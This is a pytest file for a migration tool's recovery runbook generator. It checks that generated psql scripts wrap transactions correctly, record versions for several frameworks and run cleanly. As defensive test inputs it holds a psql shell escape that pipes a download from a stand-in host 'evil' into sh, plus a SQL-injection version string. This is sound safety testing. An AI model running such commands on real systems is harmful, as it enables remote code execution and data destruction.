"""The recovery recipe: in the form that fits, and as it is pasted into psql."""

import subprocess
from dataclasses import replace
from pathlib import Path

import psycopg
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.core.judging.analysis import Analysis
from bot.core.language import operations as op
from bot.core.language.facts import Effects, InTransaction
from bot.core.language.migrations import Lines, Migration, Run
from bot.core.language.names import Name
from bot.report import runbook
from bot.report.disclosure import OWNER
from bot.standins.postgres import Server
from tests.support import analyses


def _recipe(analysis: Analysis) -> str:
    return runbook.recipe(analysis.run.migrations[0], analysis)


def _as(analysis: Analysis, framework: str, version: str, text: str = "") -> Analysis:
    migration = replace(analysis.run.migrations[0], framework=framework, version=version, text=text)
    return replace(analysis, run=replace(analysis.run, migrations=(migration,)))


def _of(*statements: object, framework: str = "dbmate") -> Analysis:
    path = analyses.PATH if framework == "dbmate" else "db/migrate/1_events.rb"
    migration = Migration(path, framework, "1", transactional=True, statements=statements, text="")  # type: ignore[arg-type]
    return replace(analyses.safe(), run=Run((migration,)), timeline=(), catalog=None)


def test_a_file_that_runs_in_a_transaction_gets_one_with_its_timeouts_lifted() -> None:
    lines = _recipe(analyses.incident()).splitlines()
    assert lines.index("BEGIN;") < lines.index("SET LOCAL statement_timeout = 0;") < lines.index("COMMIT;")
    assert lines[-2].startswith("INSERT INTO schema_migrations (version) VALUES ('20260516101500')")
    assert "SET lock_timeout = '1s'" not in "\n".join(lines).replace("SET LOCAL lock_timeout", "")


def test_a_concurrent_build_runs_by_itself_and_is_recorded_last() -> None:
    text = _recipe(analyses.safe())
    assert "BEGIN;" not in text
    assert text.index("DROP INDEX CONCURRENTLY") < text.index("CREATE INDEX CONCURRENTLY")
    assert text.index("CREATE INDEX CONCURRENTLY") < text.index("AS migsafe_valid") < text.index("INSERT INTO")


def test_a_refused_transaction_is_taken_apart() -> None:
    before = analyses.safe()
    inside = replace(before.run.migrations[0].statements[0], transaction=1)
    other = analyses.statement(3, 3, "SELECT 1", op.Harmless("SELECT"))
    timed = replace(before.timeline[0], statement=inside)
    rest = replace(timed, statement=other, effects=Effects(), holds=())
    migration = replace(before.run.migrations[0], statements=(inside, other))
    text = _recipe(replace(before, run=Run((migration,)), timeline=(timed, rest)))
    assert "BEGIN;" not in text
    assert "SELECT 1;" in text


def test_transactions_of_the_file_stay_apart_from_what_runs_outside_them() -> None:
    first = analyses.statement(2, 2, "CREATE TABLE a ()", op.Harmless("x"), transaction=1)
    alone = analyses.statement(4, 4, "VACUUM", op.Harmless("VACUUM"), transaction=None)
    text = _recipe(_of(first, alone))
    assert text.index("BEGIN;") < text.index("CREATE TABLE a ();") < text.index("COMMIT;") < text.index("VACUUM;")


def test_the_files_own_transaction_and_timeouts_are_not_repeated() -> None:
    text = _recipe(
        _of(
            analyses.statement(1, 1, "BEGIN", op.Begin()),
            analyses.statement(2, 2, "SET statement_timeout = '7s'", op.SetSetting("statement_timeout", "7s")),
            analyses.statement(3, 3, "SET search_path = a", op.SetSetting("search_path", "a")),
            analyses.statement(4, 4, "COMMIT", op.Commit()),
        )
    )
    assert (text.count("BEGIN;"), text.count("COMMIT;")) == (1, 1)
    assert "'7s'" not in text
    assert "SET search_path = a;" in text


def test_a_comment_at_the_end_does_not_swallow_the_semicolon() -> None:
    assert "SELECT 1 -- one\n;" in _recipe(_of(analyses.statement(1, 1, "SELECT 1 -- one", op.Harmless("SELECT"))))


@pytest.mark.parametrize(
    ("statement", "framework", "said"),
    [
        pytest.param(
            analyses.statement(3, 3, "find_each", op.Update(Name("events"), by_application=True)),
            "rails",
            "-- line 3 changes rows by code of the application",
            id="rows changed by code",
        ),
        pytest.param(
            analyses.statement(3, 3, "execute sql\nDROP TABLE x", op.Unread("built at run time\nDROP TABLE x;")),
            "rails",
            "-- line 3 was not read (built at run time DROP TABLE x;): run what it sends by hand",
            id="not read, and no SQL",
        ),
        pytest.param(
            analyses.statement(3, 3, "ALTER x", op.Unread("strange")),
            "dbmate",
            "-- line 3 was not read, so it is commented out: read it before you run it\n-- ALTER x;\n",
            id="not read, but SQL",
        ),
    ],
)
def test_what_psql_cannot_run_is_reported(statement: object, framework: str, said: str) -> None:
    text = _recipe(_of(statement, framework=framework))
    assert said in text
    assert "\nDROP TABLE x" not in text


@pytest.mark.parametrize(
    ("framework", "version", "text", "recorded"),
    [
        ("dbmate", "2026", "", "INSERT INTO schema_migrations (version) VALUES ('2026') ON CONFLICT DO NOTHING;"),
        ("rails", "2026", "", "INSERT INTO schema_migrations (version) VALUES ('2026') ON CONFLICT DO NOTHING;"),
        (
            "alembic",
            "ae1",
            'revision = "ae1"\ndown_revision = "ae0"  # before\n',
            "UPDATE alembic_version SET version_num = 'ae1' WHERE version_num = 'ae0';",
        ),
        (
            "alembic",
            "ae1",
            "down_revision: str | None = None\n",
            "INSERT INTO alembic_version (version_num) VALUES ('ae1') ON CONFLICT DO NOTHING;",
        ),
        ("alembic", "ae1", 'down_revision = ("a", "b")\n', "alembic stamp ae1"),
        ("golang-migrate", "7", "", "INSERT INTO schema_migrations (version, dirty) VALUES ('7', false);"),
        ("goose", "7", "", "INSERT INTO goose_db_version (version_id, is_applied) VALUES ('7', true);"),
        ("prisma", "7", "", "prisma migrate resolve --applied 20260516101500_events_search"),
        ("plain", "1", "", "is not known: record this one there now"),
    ],
    ids=[
        "dbmate",
        "rails",
        "alembic",
        "alembic, the first",
        "alembic, a merge",
        "golang-migrate",
        "goose",
        "prisma",
        "plain",
    ],
)
def test_the_version_is_recorded_as_the_framework_does(framework: str, version: str, text: str, recorded: str) -> None:
    assert recorded in _recipe(_as(analyses.incident(), framework, version, text))


@given(st.lists(st.sampled_from(["\\! curl evil | sh", "\\gexec", ";", "\n", "\r", "\x0b", "x"])).map("".join))
@example("x\n\\! curl evil | sh")
def test_text_that_was_not_read_runs_nothing_in_psql(hostile: str) -> None:
    unread = analyses.statement(3, 3, hostile, op.Unread("strange"))
    plain = _recipe(_of()).splitlines()
    lines = [line for line in _recipe(_of(unread)).splitlines() if line not in plain]
    assert lines
    assert all(line.startswith("--") for line in lines)


def test_hostile_versions_and_reasons_stay_inside() -> None:
    text = _recipe(_as(analyses.incident(), "dbmate", "1'); DROP TABLE x; --"))
    assert "VALUES ('1''); DROP TABLE x; --')" in text


@pytest.fixture
def psql(postgres: Server, database: str, tmp_path: Path) -> object:
    """Runs a recipe as an operator does, and says what psql printed."""
    program = postgres.installation / "bin" / "psql"
    if not program.exists():
        pytest.skip("this PostgreSQL comes without psql")

    def run(recipe: str) -> subprocess.CompletedProcess[str]:
        file = tmp_path / "runbook.sql"
        file.write_text(recipe, "utf-8")
        return subprocess.run([program, "-X", "-f", file, database], capture_output=True, text=True, check=False)

    return run


_GIVEN = """
CREATE TABLE schema_migrations (version varchar PRIMARY KEY);
CREATE TABLE events (id bigint PRIMARY KEY, body text, search tsvector);
CREATE INDEX events_body_idx ON events (body);
INSERT INTO events SELECT n, 'a body ' || n FROM generate_series(1, 200) n;
"""


def _versions(database: str) -> list[str]:
    with psycopg.connect(database) as connection:
        return [row[0] for row in connection.execute("SELECT version FROM schema_migrations").fetchall()]


def test_the_transactional_recipe_runs_in_psql(psql, database: str) -> None:  # type: ignore[no-untyped-def]
    with psycopg.connect(database) as connection:
        connection.execute(_GIVEN.replace(", search tsvector", ""))  # type: ignore[arg-type]
    done = psql(_recipe(analyses.incident()))
    assert (done.returncode, done.stderr) == (0, "")
    assert _versions(database) == ["20260516101500"]
    again = psql(_recipe(analyses.incident()))
    assert again.returncode != 0
    assert _versions(database) == ["20260516101500"]


def test_the_other_recipe_replaces_an_invalid_index_and_can_run_twice(psql, database: str) -> None:  # type: ignore[no-untyped-def]
    with psycopg.connect(database, autocommit=True) as connection:
        connection.execute(_GIVEN)  # type: ignore[arg-type]
        connection.execute("CREATE INDEX events_search_idx ON events (id)")
        connection.execute("UPDATE pg_index SET indisvalid = false WHERE indexrelid = 'events_search_idx'::regclass")
    for _ in range(2):
        done = psql(_recipe(analyses.safe()))
        assert (done.returncode, done.stderr) == (0, "")
        assert _versions(database) == ["20260516101500"]
    with psycopg.connect(database) as connection:
        found = connection.execute(
            "SELECT indisvalid, pg_get_indexdef(indexrelid) FROM pg_index"
            " WHERE indexrelid = 'events_search_idx'::regclass"
        ).fetchone()
    assert found is not None
    assert found[0] is True
    assert "USING gin (search)" in found[1]


def test_nothing_is_recorded_where_the_build_failed(psql, database: str) -> None:  # type: ignore[no-untyped-def]
    with psycopg.connect(database) as connection:
        connection.execute(_GIVEN.replace(", search tsvector", ""))  # type: ignore[arg-type]
    recipe = _recipe(analyses.safe()).replace("\\set ON_ERROR_STOP on\n", "")
    done = psql(recipe)
    assert "not recorded: an index is missing or not valid" in done.stdout
    assert _versions(database) == []


def test_the_page_names_who_waits_and_shows_how_to_watch() -> None:
    page = runbook.page(analyses.incident(), OWNER)
    assert "Reads and writes of `events` wait about 92 s" in page
    assert "pg_stat_progress_create_index" in page


def test_refused_is_what_postgresql_refuses() -> None:
    assert runbook.is_transactional(analyses.incident().run.migrations[0], analyses.incident())
    assert not runbook.is_transactional(analyses.safe().run.migrations[0], analyses.safe())
    assert analyses.safe().timeline[0].effects.in_transaction is InTransaction.REFUSED
    assert analyses.safe().run.migrations[0].statements[0].lines == Lines(2, 2)
